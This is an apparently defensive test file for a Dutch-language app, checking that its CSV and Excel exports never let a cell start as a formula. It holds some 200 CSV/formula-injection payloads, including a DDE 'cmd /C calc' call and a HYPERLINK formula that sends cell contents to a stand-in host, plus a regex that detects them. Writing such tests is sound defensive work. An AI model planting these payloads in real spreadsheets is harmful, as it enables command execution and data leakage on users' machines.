"""Two hundred texts that want to be a formula, through every door by which a table leaves the app.

There are two doors: `download.csv_bytes` and `report.werkboek`. A spreadsheet may divide a CSV at a comma or
a tab as well as at our semicolon; in none of the three may a cell begin as a formula.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from itertools import product

import pandas as pd
from python_calamine import CalamineWorkbook

from monitor.intake.stam import SOORTEN
from monitor.intake.stam.sjablonen import sjabloon_csv, sjabloon_xlsx
from monitor.report.werkboek import Werkblad, maak_werkboek
from monitor.ui.download import csv_bytes, xlsx_bytes
from tests.conftest import PROJECT

TEKENS = "=+-@\uff1d\uff0b\uff0d\uff20"  # the last four as wide as a Chinese character
WERK = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://kwaad/?"&A1,"klik")',
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "",
)
BEGIN = ("", " ", "\t", "\r\n", "\u200b")
FORMULES = tuple(voor + teken + werk for voor, teken, werk in product(BEGIN, TEKENS, WERK))
VERPAKT = ("{}", "Jan;{}", "Jan,{}", "Jan\t{}", 'Jan";"{}', 'Jan",{}', "Jan\x00,\u00a0{}", "\x07{}")
GEVAAR = re.compile(
    "[\\s\\x00-\\x1f\u200b-\u200f\u202a-\u202e\u2060\ufeff]*"
    "(?:[=+@\uff1d\uff0b\uff0d\uff20]|-(?!\\d+(?:,\\d+)?$))"
)


def _cellen(inhoud: bytes) -> list[str]:
    tekst = inhoud.decode("utf-8-sig")
    return [
        cel
        for teken in ";,\t"
        for rij in csv.reader(io.StringIO(tekst, newline=""), delimiter=teken)
        for cel in rij
    ]


def _bladcellen(inhoud: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(inhoud)) as archief:
        for naam in archief.namelist():
            assert b"<f>" not in archief.read(naam)
            assert b"<f " not in archief.read(naam)
            assert "externalLink" not in naam
    boek = CalamineWorkbook.from_filelike(io.BytesIO(inhoud))
    return [
        str(c) for naam in boek.sheet_names for rij in boek.get_sheet_by_name(naam).to_python() for c in rij
    ]


def test_there_are_two_hundred() -> None:
    assert len(set(FORMULES)) == 200


def test_no_formula_leaves_as_csv_however_the_line_is_divided() -> None:
    for verpakking in VERPAKT:
        teksten = [verpakking.format(formule) for formule in FORMULES]
        tabel = pd.DataFrame({"tekst": teksten, "getal": [-1.5] * 200})
        koppen = pd.DataFrame([["x"] * 200], columns=teksten)
        for inhoud in (csv_bytes(tabel, teksten), csv_bytes(koppen)):
            assert [cel for cel in _cellen(inhoud) if GEVAAR.match(cel)] == []


def test_no_formula_leaves_as_a_workbook() -> None:
    for verpakking in ("{}", "\x00{}", "\x07 {}"):
        teksten = [verpakking.format(formule) for formule in FORMULES]
        tabel = pd.DataFrame({"tekst": teksten})
        koppen = pd.DataFrame([["x"] * 200], columns=teksten)
        for inhoud in (
            xlsx_bytes(tabel, teksten, blad=teksten[0]),
            maak_werkboek([Werkblad("Blad", tuple(teksten), koppen)], titel=teksten[0]),
        ):
            assert [cel for cel in _bladcellen(inhoud) if GEVAAR.match(cel)] == []


def test_templates_hold_no_formula() -> None:
    for soort in SOORTEN:
        assert [cel for cel in _cellen(sjabloon_csv(soort)) if GEVAAR.match(cel)] == []
        assert [cel for cel in _bladcellen(sjabloon_xlsx(soort)) if GEVAAR.match(cel)] == []


def test_every_table_leaves_by_these_doors() -> None:
    """A new way out must be looked at here: who offers a file, and who writes CSV or XLSX."""
    biedt, schrijft = set(), set()
    for pad in [*(PROJECT / "monitor").rglob("*.py"), *(PROJECT / "pages").rglob("*.py")]:
        for knoop in ast.walk(ast.parse(pad.read_text(encoding="utf-8"))):
            if isinstance(knoop, ast.Attribute) and knoop.attr == "download_button":
                biedt.add(str(pad.relative_to(PROJECT / "monitor")))
            if isinstance(knoop, ast.Attribute) and (
                knoop.attr in ("to_csv", "to_excel", "Workbook")
                or (knoop.attr == "writer" and getattr(knoop.value, "id", "") == "csv")
            ):
                schrijft.add(str(pad.relative_to(PROJECT / "monitor")))
    # besides tables by `download`: a sheet to print, PDF and XLSX of the board, templates, a calendar, an A4,
    # the network as PDF with its template, the hand-over sheet and the year plan as PDF
    assert biedt == {
        "ui/download.py", "ui/werkgebied/bewaar.py", "ui/bord/verslag.py", "ui/gegevens/tabel.py",
        "ui/pieken/projecten.py", "ui/profiel/a4.py", "ui/netwerk/bestanden.py", "ui/overdracht/a4.py",
        "ui/jaarplan/blad.py",
    }  # fmt: skip
    # a schouw that was walked goes into the import as CSV and never out
    assert schrijft == {
        "intake/schouwinvoer.py", "ui/download.py", "report/werkboek.py", "intake/stam/sjablonen.py",
        "prognose/toets.py",  # command line: weeks, ids and numbers for another program
        "werkgebied/uitwisseling.py",  # codes of buurten and ids, for our own reading back
        "intake/quarantaine.py", "intake/ophalen/ophalen.py",  # files for our own reading, never handed out
        "demo/urenbestanden.py", "demo/tabellen.py",  # the invented corporation
    }  # fmt: skip
